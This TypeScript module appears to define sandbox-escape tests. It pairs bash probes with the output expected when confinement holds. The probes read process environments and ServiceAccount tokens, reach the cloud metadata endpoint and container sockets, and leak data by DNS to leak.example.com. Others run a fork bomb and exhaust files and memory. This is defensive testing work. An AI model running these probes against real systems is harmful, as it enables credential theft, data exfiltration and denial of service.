/**
 * Ways out of a confinement that tests try (G11 of docs/guarantees.md), what
 * comes of each, and those that are not tried.
 *
 * @module
 */
import type { Settings } from "./bench.ts";

/** Whether a confinement keeps a script from something; `part`: not all of it, as the page says. */
export type Verdict = "held" | "part";

/** A way out that is tried. */
export interface Escape {
  /** What it is after, as the page has it. */
  readonly name: string;
  /** What is tried: a script for bash. Without a way out it comes to its end, and prints nothing but what `prints` says. */
  readonly script: string;
  /** Everything that it may print, in both streams, beside errors that programs write. */
  readonly prints: RegExp;
  /** What comes of it where it is not the same as `held`. */
  readonly bwrap?: Verdict;
  /** The same for namespaces that root makes. */
  readonly namespaces?: Verdict;
  /** How the operator has set scripts up. */
  readonly settings?: Settings;
}

/** A way out that is not tried. */
export interface Untried {
  /** What it is after. */
  readonly name: string;
  /** Why it is not tried. */
  readonly why: string;
}

/**
 * What is tried. Each script finds in its environment: `FILE`, a file that
 * everybody may read; `SOCKET`, `ABSTRACT`, `TCP` and `UDP`, where something
 * listens outside.
 */
export const ESCAPES: readonly Escape[] = [
  {
    name: "a file that everybody on the machine may read",
    script:
      `cat "$FILE" "/proc/1/root$FILE" "/proc/self/root$FILE" "/tmp/../$FILE"`,
    prints: /^$/,
  },
  {
    name: "the token of a ServiceAccount, and what else is in /run and /var",
    script: "ls /run /var /var/run/secrets/kubernetes.io/serviceaccount",
    prints: /^(\/run:\n)?env\n$/,
  },
  {
    name: "the environment of the agent, and of the confinement",
    script: `for file in /proc/[0-9]*/environ; do
  tr '\\0' '\\n' <"$file" | grep -E '^(HOME=/root|USER|SHLVL|DENO|TP_|KUBE)'
done; readlink /proc/[0-9]*/root /proc/[0-9]*/cwd | sort -u`,
    prints: /^(HOME=\/tmp\n|SHLVL=\d\n|\/\n|\/tmp\n)*$/,
  },
  {
    name: "processes outside",
    script: "ls -d /proc/[0-9]* | wc -l; kill -0 -1 && echo signalled",
    // What confines, the shell and its children.
    prints: /^[1-9]\n(signalled\n)?$/,
  },
  {
    name: "open files of the agent",
    script: "ls -l /proc/self/fd | grep -vE ' (0|1|2|3) -> |^total'",
    prints: /^$/,
  },
  {
    name: "a server on the machine: control plane, API server, metadata",
    script: `(exec 3<>"/dev/tcp/127.0.0.1/$TCP") && echo connected
(exec 3<>/dev/tcp/169.254.169.254/80) && echo connected
(exec 3<>"/dev/tcp/::1/$TCP") && echo connected
(exec 3<>/dev/tcp/fd00:ec2::254/80) && echo connected
:`,
    prints: /^$/,
  },
  {
    name: "data out by DNS, or by any datagram",
    script: `getent hosts leak.example.com
perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0);
  for $to ("127.0.0.1", "9.9.9.9") { print "sent\\n" if send(S, "leak", 0, pack_sockaddr_in($to eq "127.0.0.1" ? $ENV{UDP} : 53, inet_aton($to))) }' >/tmp/sent
grep -c sent /tmp/sent`,
    // To itself it can send: that loopback is its own. The listener outside gets nothing.
    prints: /^[01]\n$/,
  },
  {
    name: "a socket in the file system: docker, containerd",
    script: `perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0);
for ($ENV{SOCKET}, "/run/docker.sock", "/run/containerd/containerd.sock") {
  print "connected\\n" if connect(S, pack_sockaddr_un($_)) }'`,
    prints: /^$/,
  },
  {
    name: "an abstract socket",
    script: `perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0);
print "connected\\n" if connect(S, pack_sockaddr_un("\\0$ENV{ABSTRACT}"))'`,
    prints: /^$/,
  },
  {
    name: "rights: capabilities, setuid programs, mount",
    script: `grep -E '^(CapPrm|CapEff|CapAmb|NoNewPrivs)' /proc/self/status
mount -t tmpfs tmpfs /tmp && echo mounted
mount -o remount,rw / && echo mounted
chroot / true && echo chrooted
:`,
    prints: /^CapPrm:\t0+\nCapEff:\t0+\nCapAmb:\t0+\nNoNewPrivs:\t1\n$/,
  },
  {
    name: "rights in a user namespace of its own",
    script:
      "unshare --user --map-root-user --mount mount -t tmpfs tmpfs /tmp && echo mounted; :",
    prints: /^$/,
    namespaces: "part",
  },
  {
    name: "devices and the kernel's memory",
    script:
      `for file in /dev/mem /dev/kmem /dev/port /proc/kcore /proc/kmsg /dev/sda /dev/vda; do
  [ -r "$file" ] && head -c 1 "$file" | wc -c | grep -v 0; done
mknod /tmp/mem c 1 1 && echo made; :`,
    prints: /^$/,
  },
  {
    name: "writing anywhere but in /tmp and /dev/shm",
    script:
      `for dir in / /usr /usr/bin /etc /run /dev /proc /proc/sys/kernel /var /home; do
  (: >"$dir/x") && echo "$dir"; done
echo 1 >/proc/sys/kernel/sysrq && echo sysrq
echo changed >>/script && echo changed; :`,
    prints: /^$/,
  },
  {
    name: "memory of the first process inside, by ptrace",
    script: "dd if=/proc/1/mem of=/dev/null bs=1 count=1 && echo read; :",
    prints: /^$/,
  },
  {
    name: "the clock of the machine",
    script: "date -s '2001-01-01' >/dev/null && echo changed; :",
    prints: /^$/,
  },
  {
    name: "calls of the kernel that no script needs (seccomp)",
    script:
      `[ "$(uname -m)" = x86_64 ] && export KEYCTL=250 || export KEYCTL=219
perl -e 'use Errno;
  print "keys\\n" unless syscall($ENV{KEYCTL}, 0, -3, 0) == -1 && $!{EPERM};
  print "rings\\n" unless syscall(425, 0, 0) == -1 && $!{EPERM};
  print "other numbers\\n" unless syscall(0x40000000 + 39) == -1'`,
    namespaces: "part",
    prints: /^$/,
  },
  {
    name: "a fork bomb",
    script: `perl -e 'for (1..100) {
  defined(my $child = fork) or last;
  if (!$child) { sleep 1000; exit }
  $n++ } print "$n\\n"'`,
    settings: { processes: 16 },
    prints: /^1?\d\n$/,
  },
  {
    name: "a hundred thousand open files",
    script:
      `perl -e 'while (open(my $file, "<", "/dev/null")) { push @files, $file; last if @files > 1e5 } print @files < 64 ? "few\\n" : "many\\n"'`,
    settings: { files: 64 },
    prints: /^few\n$/,
  },
  {
    name: "all memory: in a process, in /tmp, in /dev/shm",
    script: `perl -e '$x = "x" x 5e8; print "much\\n"'
for file in /tmp/x /dev/shm/x; do
  for i in 1 2 3 4; do head -c 1048576 /dev/zero >"$file$i"; done
  cat "$file"* | wc -c; done`,
    settings: { memory_mib: 64, tmp_mib: 2 },
    prints: /^2\d{6}\n2\d{6}\n$/,
  },
  {
    name: "all inodes",
    script:
      `perl -e 'for (1..20000) { open(F, ">", "/tmp/$_") or last; close F; $n++ } print "many\\n" if $n == 20000'`,
    bwrap: "part",
    prints: /^$/,
  },
];

/** What a test of the whole system tries, by its title: how a script is confined makes no difference. */
export const ELSEWHERE: Readonly<Record<string, string>> = {
  "control characters for a terminal":
    "what a script writes does nothing to a terminal",
};

/** What is not tried, and why. */
export const UNTRIED: readonly Untried[] = [
  {
    name: "memory of all processes together",
    why:
      "not held: a limit holds for each process. A cgroup for the whole agent is the way to one",
  },
  {
    name: "hostPath, hostNetwork, privileged pods, images by tag",
    why: "there are none: a script is no Pod",
  },
  {
    name: "links in archives",
    why: "there are none: nothing that a script makes is unpacked",
  },
];
